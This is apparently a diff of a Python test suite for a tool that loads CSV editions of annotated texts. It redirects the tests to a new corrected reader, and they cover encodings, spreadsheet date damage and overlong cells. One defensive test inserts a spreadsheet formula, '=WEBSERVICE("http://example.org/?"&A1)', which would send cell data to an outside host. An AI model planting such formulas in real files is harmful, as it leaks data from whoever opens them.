@@ -13,7 +13,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as some
 
 from closereading.common.errors import InputError, InputWarning
-from closereading.edition import loading, spreadsheet, spreadsheet_damage
+from closereading.edition import corrected, loading, spreadsheet, spreadsheet_damage
 from closereading.edition.format import COLUMNS
 from closereading.workflow import annotate, begin
 
@@ -59,7 +59,7 @@ def same(one, other):
 
 
 def test_the_article_of_the_book_needs_no_mending():
-    assert loading.read_edition(SLUG)[1] == []
+    assert corrected.read_edition(SLUG)[1] == []
     with warnings.catch_warnings():
         warnings.simplefilter("error", InputWarning)
         loading.load(SLUG)
@@ -101,7 +101,7 @@ def test_every_dialect_is_read_without_a_word(folder, made, dialect):
     for name in COLUMNS:
         if rows := table(folder, name):
             (folder / f"{name}.csv").write_bytes(DIALECTS[dialect](rows))
-    loaded, notices = loading.read_edition(folder)
+    loaded, notices = corrected.read_edition(folder)
     assert notices == []
     same(loaded, loading.load(made))
 
@@ -119,7 +119,7 @@ def test_windows_1252_is_said_and_what_it_lost_is_given_back(folder, made):
         (folder / f"{name}.csv").write_bytes(
             (folder / f"{name}.csv").read_bytes().decode("utf-8-sig").encode("cp1252", "replace")
         )
-    loaded, notices = loading.read_edition(folder)
+    loaded, notices = corrected.read_edition(folder)
     same(loaded, loading.load(made))
     assert any("Windows-1252" in line and "CSV UTF-8" in line for line in notices)
     assert any("'?ódź'" in line or "'?ód?'" in line for line in notices)
@@ -131,7 +131,7 @@ def test_utf_8_that_was_read_as_something_else_is_read_back(folder, made, page):
         data = (folder / f"{name}.csv").read_bytes()
         misread = "".join(bytes([byte]).decode(page, "ignore") or chr(0xF100 + byte) for byte in data)
         (folder / f"{name}.csv").write_bytes(misread.encode("utf-8-sig"))
-    loaded, notices = loading.read_edition(folder)
+    loaded, notices = corrected.read_edition(folder)
     same(loaded, loading.load(made))
     assert all("UTF-8 that was read as" in line for line in notices) and len(notices) == len(COLUMNS)
 
@@ -240,7 +240,7 @@ def test_a_formula_in_any_column_is_text(folder, name):
         changed[0][column] = '=WEBSERVICE("http://example.org/?"&A1)'
         write(folder, name, changed)
         try:
-            loaded, _ = loading.read_edition(folder)
+            loaded, _ = corrected.read_edition(folder)
         except InputError as error:
             assert "row 2: found " in str(error) and "to mend:" in str(error)
         else:
@@ -251,7 +251,7 @@ def test_dates_and_errors_in_columns_of_words_are_undone_or_named(copy):
     path = copy / "entities.csv"
     text = path.read_text(encoding="utf-8")
     path.write_text(text.replace("January 10,DATE,January 10", "10-Jan,DATE,10-Jan"), encoding="utf-8")
-    loaded, notices = loading.read_edition(copy)
+    loaded, notices = corrected.read_edition(copy)
     assert loaded.entities[loaded.entities.id == "e100"][["text", "entity"]].values.tolist() == [
         ["January 10", "January 10"]
     ]
@@ -281,7 +281,7 @@ def test_a_date_that_a_person_chose_stays(copy):
         path.read_text(encoding="utf-8").replace("January 10,DATE,January 10", "January 10,DATE,2022-01-10"),
         encoding="utf-8",
     )
-    loaded, notices = loading.read_edition(copy)
+    loaded, notices = corrected.read_edition(copy)
     assert "2022-01-10" in set(loaded.entities.entity) and notices == []
 
 
@@ -333,7 +333,7 @@ def test_a_paragraph_longer_than_a_cell_may_be(tmp_path):
     assert len(rows[0]["text"]) > 131_072
     rows[0]["text"] = rows[0]["text"][:32_767]
     write(folder, "blocks", rows)
-    loaded, (line,) = loading.read_edition(folder)
+    loaded, (line,) = corrected.read_edition(folder)
     assert "the end cut off" in line and loaded.blocks.text.iloc[0] == loaded.raw.strip()
 
 
